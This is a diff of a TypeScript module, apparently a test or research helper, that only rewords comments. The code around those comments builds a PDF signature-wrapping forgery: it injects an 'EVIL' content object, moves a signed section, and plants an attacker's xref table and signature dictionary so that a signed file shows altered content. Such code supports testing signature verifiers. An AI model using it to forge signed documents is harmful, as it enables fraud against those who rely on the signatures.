@@ -6,8 +6,8 @@ const EVIL =
   "4 0 obj\n<</Length 35>>\nstream\nBT /F1 24 Tf 72 700 Td (FAUX) Tj ET\nendstream\nendobj\n";
 
 /**
- * Moves the second signed piece towards the end and fills the hole: the signed `startxref` names the same offset, where a table of the
- * attacker's stands now. `padding` is how the hole is dressed up.
+ * Moves the second signed piece to the end and fills the hole: the signed `startxref` leads to the
+ * attacker's table. `padding`: the filling.
  */
 export function wrapped(
   bytes: Uint8Array,
@@ -38,7 +38,7 @@ export function wrapped(
   const table = (signatureAt: number): string =>
     `xref\n${rows.trim()}\r\n4 1\n${row(evilAt)}${number} 1\n${row(signatureAt)}trailer\n<</Size 99/Root 1 0 R/Prev ${previous}>>\nstartxref\n${start}\n%%EOF\n`;
   hole += table(start + table(0).length);
-  // The second dictionary claims the moved piece: its offset is known once the hole is whole, so its room is fixed.
+  // The second dictionary claims the moved piece, whose offset is known last: its room is fixed.
   hole += `${number} 0 obj\n<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached/ByteRange[0 ${from} ${ROOM}]/Contents${value}>>\nendobj\n`;
   return moved({ text, hole, from, to });
 }
